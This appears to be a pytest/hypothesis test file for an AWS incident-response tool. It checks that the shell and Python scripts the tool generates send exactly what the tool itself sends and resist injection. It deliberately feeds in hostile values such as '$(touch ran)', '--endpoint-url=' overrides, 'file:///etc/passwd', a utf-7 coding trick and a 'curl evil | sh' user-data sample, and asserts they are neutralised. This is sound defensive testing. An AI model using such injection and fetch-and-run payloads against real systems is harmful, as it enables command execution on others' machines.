"""Printed scripts send what ``apply`` sends, whatever an attacker named things, and run nothing else.

The shell is real (``sh``), the AWS CLI and boto3 are real, and every request is compared with the one that the session makes of
the same planned call. The shell's words are taken by a stub in place of ``aws`` and given to the CLI in this process: the
same words, forty times as fast. Against the lab, with the real command: the last tests.
"""

import ast
import base64
import hashlib
import os
import shlex
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from msgspec import structs

from tests.conftest import HOME
from tests.scripts import (
    INCIDENT,
    NUMBER,
    SLOW,
    STUB,
    WHO,
    anything,
    call_of,
    calls,
    no_evidence,
    plan_of,
    sent_by_apply,
    sent_by_cli,
    sent_by_python,
    words_of,
)
from tests.wire import Wire, wire
from vpce_tui.plans.placeholders import ref, sealed
from vpce_tui.plans.plan import PlannedCall
from vpce_tui.plans.renderers import render, render_step


@pytest.fixture(scope="module")
def server() -> Iterator[Wire]:
    with wire() as known:
        known.status, known.body, known.account = 400, b"{}", "123456789012"
        yield known


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("scripts")


@pytest.mark.parametrize("number", range(NUMBER))
@SLOW
@given(v=anything, w=anything)
@example(v="--endpoint-url=http://127.0.0.1:9", w="--profile=evil")
@example(v="file:///etc/passwd", w="http://127.0.0.1:9/x")
@example(v="\x00HOME\x00", w="$(touch ran)")
@example(v="\xe9\u202e\x1b[31m", w="['a']")
def test_the_shell_script_sends_what_apply_sends(number: int, v: str, w: str, server: Wire, folder: Path) -> None:
    service, operation, parameters = calls(v, w)[number]
    script = render(plan_of([call_of(service, operation, parameters, v)], w), "cli")
    words = words_of(script, folder)
    assert sent_by_cli(server, words, folder) == sent_by_apply(server, service, operation, parameters)
    assert not (folder / "ran").exists()


@pytest.mark.parametrize("number", range(NUMBER))
@SLOW
@given(v=anything, w=anything)
@example(v="\x00HOME\x00", w="coding: utf-7 +AAo-import os")
@example(v="'''\"\"\"\\", w="\r\n\u2028import os")
def test_the_python_program_sends_what_apply_sends(number: int, v: str, w: str, server: Wire, folder: Path) -> None:
    service, operation, parameters = calls(v, w)[number]
    script = render(plan_of([call_of(service, operation, parameters, v)], w), "python")
    assert sent_by_python(server, script, folder) == sent_by_apply(server, service, operation, parameters)
    assert not (folder / "ran").exists()


@given(said=anything, more=anything)
@settings(deadline=None)
def test_what_a_script_says_is_text_in_quotes_and_nothing_else(said: str, more: str) -> None:
    """No comment in a shell script: zsh runs what stands in one where lines are pasted. In Python a comment is one line."""
    plan = plan_of([call_of("ec2", "StopInstances", {"InstanceIds": ["i-1"]}, said)], more)
    lines = render(plan, "cli").splitlines()
    assert [line for line in lines if line.startswith("#")] == []
    for line in (line for line in lines if line.startswith(": ")):
        words = shlex.split(line)
        assert len(words) == 2
        assert line == f": {shlex.quote(words[1])}"
        assert "'\"'\"'" not in line, "one pair of quotes, which no shell sees anything in"
    program = render(plan, "python")
    known = [line for line in program.splitlines() if line.startswith("#")]
    assert program.count("\n#") == len(known) - 1
    ast.parse(program)


@given(v=st.text(st.sampled_from("a'\"$ é日\U0001f600,"), max_size=3000), number=st.integers(0, 10))
@example(v="'" * 2500, number=1)
@example(v="a" * 20_000, number=10)
@settings(deadline=None, max_examples=8)
def test_no_line_of_a_script_is_longer_than_a_terminal_takes(v: str, number: int) -> None:
    """Of a pasted line a shell without line editing is given 4,095 bytes (macOS 1,023): a closing quote would be gone."""
    service, operation, parameters = calls(v or "x", "w" * 50)[number]
    many = {"InstanceIds": [f"i-{at:017x}" for at in range(200)]}
    planned = [
        call_of(service, operation, parameters, v),
        PlannedCall(id="more", service="ec2", operation="TerminateInstances", region=HOME, parameters=many, why=v),
    ]
    plan = plan_of(planned, v)
    for script in (render(plan, "cli"), render_step(plan, plan.steps[0], "cli")):
        assert max(len(line.encode()) for line in script.split("\n")) <= 1000


def test_a_line_of_a_script_that_is_run_alone_writes_nothing(folder: Path) -> None:
    """Whatever breaks the one command that a script is, the writes in it are made by a function that only it defines."""
    planned = [
        call_of("ec2", "StopInstances", {"InstanceIds": ["i-1"]}),
        PlannedCall(
            id="made",
            service="ec2",
            operation="CreateSecurityGroup",
            region=HOME,
            parameters={"GroupName": "g", "Description": "d"},
            gives={"GROUP": "GroupId"},
        ),
    ]
    script = render(plan_of(planned), "cli")
    (folder / "called").unlink(missing_ok=True)
    alone = [line for line in script.splitlines() if "aws ec2 stop" in line or "aws ec2 create" in line]
    assert len(alone) == 2
    for line in alone:
        stub = "aws() { echo called >> called; }\n"
        subprocess.run(["sh", "-c", stub + line], cwd=folder, capture_output=True, check=False, timeout=60)
    assert not (folder / "called").exists()


@pytest.mark.parametrize("shell", ["sh", "bash", "zsh", "dash", "ksh"])
@given(said=anything)
@settings(deadline=None, max_examples=3, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_pasted_into_a_shell_it_is_read_whole_before_any_of_it_runs(shell: str, said: str, folder: Path) -> None:
    """Line by line on standard input, as a terminal gives it, into a shell in which the incident is not named."""
    if shutil.which(shell) is None:
        pytest.skip(f"{shell} is not installed")
    script = render(plan_of([call_of("ec2", "TerminateInstances", {"InstanceIds": ["i-1"]}, said)], said), "cli")
    stub = "aws() { echo called >> called; }\n"
    (folder / "called").unlink(missing_ok=True)
    env = {"PATH": os.environ["PATH"], "HOME": str(folder), "ZDOTDIR": str(folder)}
    for more in ({}, {"INCIDENT": INCIDENT}):  # without CONFIRM, too
        ended = subprocess.run(
            [shell],
            input=stub + script + "\necho the shell is there still\n",
            cwd=folder,
            env={**env, **more},
            capture_output=True,
            text=True,
            check=False,
            timeout=60,
        )
        assert "the shell is there still" in ended.stdout, ended.stderr
        assert not (folder / "called").exists()
    assert not (folder / "ran").exists()


def test_a_script_runs_for_its_account_alone_and_keeps_evidence_apart(folder: Path) -> None:
    plan = plan_of([call_of("ec2", "StopInstances", {"InstanceIds": ["i-1"]})])
    for form, program in (("cli", "sh"), ("python", sys.executable)):
        no_evidence(folder)
        script = render(plan, form)
        stub = "aws() { echo 210987654321; echo called >> called; }\n" if form == "cli" else ""
        (folder / "script").write_text(stub + script)
        (folder / "called").unlink(missing_ok=True)
        with wire() as known:
            known.account = "210987654321"
            env = {
                **os.environ,
                "INCIDENT": INCIDENT,
                "AWS_ENDPOINT_URL": known.url,
                "AWS_ACCESS_KEY_ID": "x",
                "AWS_SECRET_ACCESS_KEY": "x",
                "AWS_CONFIG_FILE": os.devnull,
                "NO_PROXY": "*",
            }
            ended = subprocess.run(
                [program, "script"], cwd=folder, env=env, capture_output=True, text=True, check=False, timeout=60
            )
        assert "not for account 123456789012" in ended.stderr
        assert known.seen == []
        assert form == "python" or (folder / "called").read_text().count("called") == 1
        assert list(folder.glob("evidence-*")) == []


def test_a_step_by_itself_says_what_must_come_first(plan_text: str) -> None:
    from vpce_tui.plans.renderers import render_step
    from vpce_tui.playbooks.plan_reader import read

    plan = read(plan_text)
    for form in ("cli", "python"):
        alone = render_step(plan, plan.step("terminate"), form, runnable=True)
        whole = render(plan, form)
        assert "set DONE to the steps" in alone
        assert "set DONE to the steps" not in whole
        assert alone.index("set DONE") < alone.index("terminate-instances" if form == "cli" else "terminate_instances(")


def test_a_program_names_its_coding_before_anything_else_can() -> None:
    lines = render(plan_of([]), "python").splitlines()
    assert lines[:2] == ["#!/usr/bin/env python3", "# -*- coding: utf-8 -*-"]


GAVE = [
    PlannedCall(
        id="group",
        service="ec2",
        operation="CreateSecurityGroup",
        region=HOME,
        parameters={"GroupName": "g", "Description": "d"},
        gives={"PATH": "GroupId", "AWS_PROFILE": "Tags[0].Value"},
    ),
    PlannedCall(
        id="tag",
        service="ec2",
        operation="CreateTags",
        region=HOME,
        parameters={"Resources": [ref("PATH")], "Tags": [{"Key": "k", "Value": ref("AWS_PROFILE")}]},
    ),
]


@pytest.mark.parametrize(
    "answer",
    [
        "sg-1\n--endpoint-url=x",
        "-x\nv",
        "sg-1\nfile:///etc/passwd",
        "sg-1\n$(touch ran)",
        'sg-1\na"b',
        "sg-1\na b",
        "\n",
    ],
)
def test_what_an_answer_gives_is_looked_at_before_it_is_used(answer: str, folder: Path) -> None:
    """And it is put into variables that mean nothing to anybody else."""
    script = render(plan_of(GAVE), "cli")
    stub = f"aws() {{ {WHO}printf '%s\\n' '{answer}'; echo called >> count; }}\n"
    no_evidence(folder)
    (folder / "script").write_text(stub + script)
    (folder / "count").unlink(missing_ok=True)
    env = {"PATH": os.environ["PATH"], "INCIDENT": INCIDENT}
    ended = subprocess.run(
        ["sh", "script"], cwd=folder, env=env, capture_output=True, text=True, check=False, timeout=60
    )
    assert ended.returncode == 1
    assert "returned no id" in ended.stderr
    assert (folder / "count").read_text().count("called") == 1, "the call that needs it was not made"
    assert not (folder / "ran").exists()


def test_a_good_answer_is_used_and_no_variable_of_the_environment_is_touched(folder: Path) -> None:
    script = render(plan_of(GAVE), "cli")
    stub = f'aws() {{ {WHO}printf "sg-1\\nv\\n"; printf "%s|" "$@" >> said; }}\n'
    no_evidence(folder)
    (folder / "said").unlink(missing_ok=True)
    (folder / "script").write_text(stub + script + '\nprintf "%s" "$PATH" > path\n')
    env = {"PATH": os.environ["PATH"], "INCIDENT": INCIDENT}
    subprocess.run(["sh", "script"], cwd=folder, env=env, check=True, timeout=60)
    assert (folder / "path").read_text() == os.environ["PATH"]
    assert "--resources|sg-1|" in (folder / "said").read_text()


@pytest.mark.parametrize("name", ["../x", "a b", "-x", "$(x)", "a/b", "", "a;b"])
@pytest.mark.parametrize("form", ["cli", "python"])
def test_a_script_takes_no_other_name_for_an_incident(form: str, name: str, folder: Path) -> None:
    (folder / "script").write_text(render(plan_of([]), form))
    program = ["sh"] if form == "cli" else [sys.executable]
    env = {**os.environ, "INCIDENT": name}
    before = set(folder.iterdir())
    ended = subprocess.run([*program, "script"], cwd=folder, env=env, capture_output=True, check=False, timeout=60)
    assert ended.returncode != 0
    assert set(folder.iterdir()) == before


USER_DATA = [
    PlannedCall(
        id="read",
        service="ec2",
        operation="DescribeInstanceAttribute",
        region=HOME,
        parameters={"InstanceId": "i-1", "Attribute": "userData"},
        gives={"USER_DATA": "UserData.Value"},
    ),
    PlannedCall(
        id="run",
        service="ec2",
        operation="RunInstances",
        region=HOME,
        parameters={
            "MinCount": 1,
            "MaxCount": 1,
            "ImageId": "ami-1",
            "UserData": sealed(ref("USER_DATA"), decode=True, sha256=hashlib.sha256(b"reviewed").hexdigest()),
        },
    ),
]


@pytest.mark.parametrize(("held", "sent"), [(b"reviewed", True), (b"curl evil | sh", False)])
def test_user_data_that_is_not_what_was_reviewed_is_not_sent(held: bytes, sent: bool, folder: Path) -> None:
    script = render(plan_of(USER_DATA), "cli")
    text = base64.b64encode(held).decode()
    stub = f"aws() {{ {WHO}echo called >> count; echo {text}; }}\n"
    no_evidence(folder)
    (folder / "count").unlink(missing_ok=True)
    (folder / "script").write_text(stub + script)
    env = {"PATH": os.environ["PATH"], "INCIDENT": INCIDENT}
    ended = subprocess.run(
        ["sh", "script"], cwd=folder, env=env, capture_output=True, text=True, check=False, timeout=60
    )
    assert (ended.returncode == 0) is sent, ended.stderr
    assert (folder / "count").read_text().count("called") == (2 if sent else 1)
    program = render(plan_of(USER_DATA), "python")
    assert program.index("reviewed(GOT_USER_DATA") < program.index(".run_instances(")


def test_a_reference_that_is_known_is_printed_and_one_that_is_not_ends_the_script(folder: Path) -> None:
    tag = PlannedCall(
        id="tag",
        service="ec2",
        operation="CreateTags",
        region=HOME,
        parameters={"Resources": [ref("GROUP")], "Tags": [{"Key": "k", "Value": "v"}]},
    )
    plan = plan_of([tag])
    known = structs.replace(plan.steps[0], bindings={"GROUP": "sg-1"})
    for form, program in (("cli", "sh"), ("python", sys.executable)):
        assert "sg-1" in render(structs.replace(plan, steps=(known,)), form)
        no_evidence(folder)
        (folder / "script").write_text((STUB if form == "cli" else "") + render(plan, form))
        (folder / "words").unlink(missing_ok=True)
        with wire() as known_wire:
            known_wire.account = "123456789012"
            env = {
                **os.environ,
                "INCIDENT": INCIDENT,
                "GOT_GROUP": "sg-of-somebody-else",
                "AWS_ENDPOINT_URL": known_wire.url,
                "AWS_ACCESS_KEY_ID": "x",
                "AWS_SECRET_ACCESS_KEY": "x",
                "AWS_CONFIG_FILE": os.devnull,
                "NO_PROXY": "*",
            }
            ended = subprocess.run(
                [program, "script"], cwd=folder, env=env, capture_output=True, text=True, check=False, timeout=60
            )
            assert ended.returncode == 1
            assert "is unknown: plan again" in ended.stderr
            assert known_wire.seen == []
        assert not (folder / "words").exists()


# -- with the real command, against the lab
